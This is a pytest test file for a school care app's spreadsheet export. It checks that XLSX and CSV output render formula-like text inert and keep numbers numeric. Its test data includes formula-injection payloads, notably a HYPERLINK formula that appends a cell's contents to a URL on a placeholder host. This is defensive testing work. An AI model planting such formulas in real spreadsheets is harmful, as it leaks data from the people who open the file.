"""Issue 8, point 3.4: no cell of an exported spreadsheet is a formula. A text that begins with
=, +, -, @, a tab or a carriage return is written as text (XLSX) or with a leading apostrophe (CSV);
numbers stay numbers."""

import io
import re
from datetime import date
from decimal import Decimal
from pathlib import Path

import pytest
from django.utils import timezone
from django_tenants.utils import schema_context
from openpyxl import load_workbook

from shared.xlsx import csv_safe, csv_writer, xlsx_response
from tenants.care.record_services import observation_create
from tests.conftest import ALPHA, role_user, signed_in
from tests.support.students import make_student

HYPERLINK = '=HYPERLINK("http://x/?"&A2,"详情")'
DANGEROUS = [HYPERLINK, "+86 139 0000 0000", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1", "=1+1"]


def _cells(content: bytes):
    book = load_workbook(io.BytesIO(content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def test_xlsx_writes_formula_like_text_as_text_and_keeps_numbers():
    response = xlsx_response(
        filename="t",
        title="t",
        headers=["=header", "b", "c", "d"],
        rows=[[text, -3, Decimal("-1.5"), date(2026, 1, 2)] for text in DANGEROUS],
    )
    book = load_workbook(io.BytesIO(response.content))
    sheet = book.active
    assert sheet["A1"].value == "=header" and sheet["A1"].data_type == "s"
    for i, text in enumerate(DANGEROUS, start=2):
        cell = sheet.cell(row=i, column=1)
        # XML stores a carriage return as a line feed.
        assert cell.value == text.replace("\r", "\n") and cell.data_type == "s", (text, cell.data_type)
        assert cell.quotePrefix is True
        assert sheet.cell(row=i, column=2).value == -3 and sheet.cell(row=i, column=2).data_type == "n"
        assert sheet.cell(row=i, column=3).value == -1.5 and sheet.cell(row=i, column=3).data_type == "n"
        assert sheet.cell(row=i, column=4).data_type == "d"
    assert not [c for c in _cells(response.content) if c.data_type == "f"]


def test_csv_fields_that_look_like_formulas_get_an_apostrophe():
    for text in DANGEROUS:
        assert csv_safe(text) == "'" + text
    assert csv_safe("王小明") == "王小明" and csv_safe(-3) == -3 and csv_safe(None) is None
    stream = io.StringIO()
    writer = csv_writer(stream)
    writer.writerow([HYPERLINK, -3, "普通文字"])
    writer.writerows([["@x", 1.5]])
    assert stream.getvalue().splitlines() == [
        '"\'=HYPERLINK(""http://x/?""&A2,""详情"")",-3,普通文字',
        "'@x,1.5",
    ]


@pytest.mark.django_db
def test_an_observation_with_a_hyperlink_formula_exports_inert():
    with schema_context("school_alpha"):
        student = make_student(name="公式测试")
        observation_create(
            actor=role_user("homeroom_teacher"),
            student=student,
            kind="observation",
            observed_on=timezone.localdate(),
            text=HYPERLINK,
        )
    care = signed_in(ALPHA, "r_counselor")
    # The observations table's XLSX export.
    listing = care.get("/care/observations/?export=xlsx")
    assert listing.status_code == 200
    cells = _cells(listing.content)
    found = [c for c in cells if c.value == HYPERLINK]
    assert found and all(c.data_type == "s" for c in found)
    assert not [c for c in cells if c.data_type == "f"]
    # The whole record's workbook (a guardian's request).
    record = care.post(
        f"/care/students/{student.public_id}/export/", {"reason": "监护人申请", "file_format": "xlsx"}
    )
    assert record.status_code == 200
    cells = _cells(record.content)
    found = [c for c in cells if c.value == HYPERLINK]
    assert found and all(c.data_type == "s" for c in found)
    assert not [c for c in cells if c.data_type == "f"]


def test_every_spreadsheet_writer_goes_through_shared_xlsx():
    """A module that builds a workbook or a CSV writes its rows through shared.xlsx, never with
    openpyxl's sheet.append or csv.writer directly."""
    root = Path(__file__).resolve().parents[2]
    offenders = []
    for folder in ("shared", "tenants", "api", "platform"):
        for path in (root / folder).rglob("*.py"):
            if "migrations" in path.parts or path == root / "shared" / "xlsx.py":
                continue
            text = path.read_text(encoding="utf-8")
            if re.search(r"csv\.(writer|DictWriter)\(|\b(sheet|ws|worksheet)\.append\(", text):
                offenders.append(str(path.relative_to(root)))
    assert offenders == []
